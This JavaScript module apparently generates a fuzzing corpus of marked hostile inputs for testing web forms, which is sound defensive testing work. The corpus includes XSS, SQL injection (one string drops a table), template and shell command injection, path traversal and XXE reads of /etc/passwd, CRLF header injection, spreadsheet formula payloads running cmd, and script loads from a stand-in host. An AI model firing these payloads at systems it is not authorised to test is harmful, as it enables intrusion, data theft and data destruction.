// What is typed into fields that nobody should type: made here from families, each payload with the mark by which it is found
// again. None is taken from anybody's list. `PAYLOADS` are texts or, where they are no UTF-8, bytes.

/** In every payload: as an element, an attribute, a handler, a word. No page has it otherwise. */
export const MARK = 'zq9x';

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerdown', 'onbegin', 'onbeforetoggle'];
const TAGS = ['img src=x', 'svg', 'details open', 'input autofocus', 'body', 'video src=x', 'audio src=x', 'marquee', 'iframe', 'object data=x', 'dialog open', 'select autofocus'];
const BREAKS = ['', '"', "'", '`', '">', "'>", '</textarea>', '</title>', '</script>', '</style>', '-->', ']]>', '</option></select>', '</noscript>', '</template>', '&quot;>', '%22%3E', '\\">', '"/>', "' /><!--", '</leptos-island>', '</main></body></html>'];
const JS = [`alert('${MARK}')`, `${MARK}()`, `fetch('/${MARK}')`, `document.title='${MARK}'`];

const families = {
    elements: TAGS.flatMap((tag) => HANDLERS.slice(0, 5).map((handler) => `<${tag} ${handler}=${MARK}()>`)),
    breakouts: BREAKS.flatMap((out) => [`${out}<script>${MARK}()</script>`, `${out}<img src=${MARK} onerror=${MARK}()>`, `${out}<${MARK}>`, `${out}<b id=${MARK}>`]),
    attributes: ['"', "'", '` ', '"\t', "'\n", '" /', "'\f"].flatMap((quote) => HANDLERS.map((handler) => `${quote} ${handler}=${MARK}() ${MARK}=1 x=${quote.trim()}`)),
    scripts: JS.flatMap((code) => [`<script>${code}</script>`, `<ScRiPt >${code}</sCrIpT>`, `<script src=//${MARK}.example/></script>`, `<script type=module>${code}</script>`, `';${code};//`, `";${code};//`, `\`;${code};//`, `\${${code}}`, `</script><script>${code}</script>`, `<script\x20type="text/javascript">${code}</script>`, `<<script>${code}//<</script>`, `<scr<script>ipt>${code}</scr</script>ipt>`]),
    urls: JS.slice(0, 2).flatMap((code) => [`javascript:${code}`, `JaVaScRiPt:${code}`, `java\tscript:${code}`, `java\nscript:${code}`, `\x01javascript:${code}`, `javascript&colon;${code}`, `data:text/html,<script>${code}</script>`, `vbscript:${code}`, `//${MARK}.example`, `https://${MARK}.example/`, `\\\\${MARK}.example`, `/\\${MARK}.example`, `/%09/${MARK}.example`, `https:${MARK}.example`, `http://127.0.0.1@${MARK}.example/`, `blob:${code}`, `<a href="javascript:${code}">x</a>`, `<form action="javascript:${code}"><button>x</button></form>`, `<base href="https://${MARK}.example/">`, `<meta http-equiv=refresh content="0;url=https://${MARK}.example/">`, `<link rel=stylesheet href=https://${MARK}.example/>`]),
    svg: HANDLERS.slice(0, 4).flatMap((handler) => [`<svg ${handler}=${MARK}()>`, `<svg><script>${MARK}()</script></svg>`, `<svg><animate ${handler}=${MARK}() attributeName=x dur=1s>`, `<svg><set attributeName=${handler} to=${MARK}()>`, `<svg><foreignObject><img src=x ${handler}=${MARK}()></foreignObject></svg>`, `<svg><a xlink:href="javascript:${MARK}()"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' ${handler}='${MARK}()'/>#x"/></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x ${handler}=${MARK}()>">`]),
    css: [`<style>*{background:url(//${MARK}.example)}</style>`, `"style="background:url(//${MARK}.example)`, `<div style="x:expression(${MARK}())">`, `}body{x:url(//${MARK}.example)}`, `</style><script>${MARK}()</script>`, `@import "//${MARK}.example";`, `<link rel=stylesheet href="data:text/css,*{x:${MARK}}">`, `\\3c script\\3e ${MARK}()`],
    templates: ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%if 1%}1{%endif%}', '{{constructor.constructor("1")()}}', '*{7*7}', '@(7*7)', '[[7*7]]', '{{=7*7}}', '<#assign x=7*7>${x}', '{{#with 1}}{{this}}{{/with}}', '%{7*7}', '~{7*7}', '{php}7{/php}', '${jndi:ldap://127.0.0.1/x}', '${env:PATH}', '{0}', '{}', '%s%n%x%p', '%1$s', '{:?}', '$(id)', '`id`', ';id', '|id', '&& id', '{{__BUILD__}}', '__SHELL__', '{number}'].map((it) => `${it}${MARK}`),
    sql: ["'", "''", '"', "';--", "' OR '1'='1", "' OR 1=1--", "') OR ('1'='1", "' UNION SELECT NULL--", "' UNION SELECT name,sql FROM sqlite_master--", "'; DROP TABLE account;--", "' AND 1=CAST((SELECT version()) AS int)--", "'||(SELECT pg_sleep(0))||'", "' AND randomblob(1)--", "1; SELECT 1", '1 OR 1=1', "\\'", "' LIKE '%", '%', '_', '%%%%', "$1", '?1', ':name', "E'\\x27'", "'/**/OR/**/1=1", "' COLLATE NOCASE--", "'\0--", '0x27', "' GROUP BY 1 HAVING 1=1--", "'; PRAGMA writable_schema=1;--", "'; COPY (SELECT 1) TO '/tmp/x';--", "' ESCAPE '!"].map((it) => `${it}${MARK}`),
    lines: ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u2029', '\u0085', '\v', '\f', '嘊嘍', '\\r\\n', '%E5%98%8A%E5%98%8D'].flatMap((line) => [`${MARK}${line}Set-Cookie: ${MARK}=1`, `${MARK}${line}Location: https://${MARK}.example/`, `${MARK}${line}${line}<script>${MARK}()</script>`, `${MARK}@example.org${line}Bcc: ${MARK}@example.net`, `${MARK}${line}.${line}QUIT`]),
    controls: [...Array.from({ length: 32 }, (_, at) => String.fromCharCode(at)), '\x7f', '\x80', '\x9b', '\x9d'].map((it) => `${MARK}${it}${MARK}`),
    log: ['\x1b[31m', '\x1b[2J', '\x1b]0;x\x07', '\x1b]8;;https://example.org\x07', '\x9b31m', '\x08\x08\x08', '\r', '\n2026-01-01T00:00:00Z ERROR ', '\n{"level":"ERROR"}', '\x1bP', '\x1b(0', '\x0e'].map((it) => `${it}${MARK}`),
    bidi: ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'].flatMap((it) => [`${it}${MARK}`, `${MARK}${it}gpj.exe`]),
    invisible: ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u034f', '\u180e', '\u3164', '\u115f', '\u{e0041}', '\u{e0001}', '\ufe0f', '\u17b4'].flatMap((it) => [`${it}${MARK}${it}`, `z${it}q${it}9${it}x ${MARK}`]),
    unicode: ['\ud800', '\udfff', '\ufffe', '\uffff', '\u{10ffff}', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', 'e' + '\u0301'.repeat(60), 'ก' + '็'.repeat(60), '\ufdfa', 'ﬁ', 'ß', 'İ', 'ı', 'ſ', 'K', '＜script＞', '‹script›', '\u{1d4b3}', 'ａ', '٠١٢', '๐๑๒', '１２３'].map((it) => `${it.toWellFormed()}${MARK}`),
    formulas: ['=', '+', '-', '@', '\t=', '\r=', ' =', '\u00a0=', '\ufeff=', '＝', '＋', '－', '＠', '|', ';=', '"=', "'="].flatMap((it) => [`${it}1+1 ${MARK}`, `${it}HYPERLINK("https://${MARK}.example","x")`, `${it}cmd|' /C ${MARK}'!A0`]),
    entities: ['&lt;', '&#60;', '&#x3c;', '&#0000060', '&amp;lt;', '&NewLine;', '&Tab;', '&colon;', '&lpar;', '\\u003c', '\\x3c', '%3C', '%253C', '+ADw-'].map((it) => `${it}script>${MARK}()</script>`),
    documents: [`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;${MARK}</x>`, `<!DOCTYPE x [<!ENTITY a "${MARK}"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>`, `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/>${MARK}</x>`, `{"__proto__":{"${MARK}":1}}`, `{"$ne":"${MARK}"}`, `{"a":"${MARK}","a":2}`, `["${MARK}"`, `{"${MARK}":1e999}`, `"},"${MARK}":{"`, `\\"},{\\"${MARK}`, `${'['.repeat(200)}${MARK}`, `*)(uid=*))(|(${MARK}=*`, `' or '1'='1' ${MARK}`, `\\input{${MARK}}`],
    paths: ['../../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'file:///etc/passwd', '....//....//etc/passwd', '%2e%2e%2f%2e%2e%2fetc/passwd', '..%252f..%252fetc/passwd', '..%c0%af..%c0%afetc/passwd', '/proc/self/environ', 'C:\\boot.ini', '\\\\127.0.0.1\\x', 'a\0.png', 'CON', 'aux.txt', '.', '..', '~root'].map((it) => `${it}${MARK}`),
    bytes: [[0xff], [0xfe, 0xff], [0xc0, 0x80], [0xc0, 0xbc], [0xe0, 0x80, 0xbc], [0xed, 0xa0, 0x80], [0xf5, 0x80, 0x80, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0x80], [0xe2, 0x80], [0xf0, 0x9f, 0x98], [0xc3, 0x28], [0x00, 0xff, 0x00]].map((bytes) => Buffer.from([...Buffer.from(MARK), ...bytes, ...Buffer.from('<script>'), ...bytes])),
};

/** Alone, never beside others: they are as long as a form may be, and longer. */
const LONG = [1_000, 10_000, 100_000, 240_000].flatMap((length) => [`${MARK}${'A'.repeat(length)}`, `${MARK}${'<b>'.repeat(length / 9)}`]);

export const FAMILIES = Object.keys(families);
export const PAYLOADS = [...new Set(Object.values(families).flat())];
export const WITH_LONG = [...PAYLOADS, ...LONG];

/** So many texts one after another in one field: what breaks out is found as well, in a fraction of the time. */
export function bundles(size) {
    const texts = PAYLOADS.filter((it) => typeof it === 'string');
    return Array.from({ length: Math.ceil(texts.length / size) }, (_, at) => texts.slice(at * size, (at + 1) * size).join(' '));
}
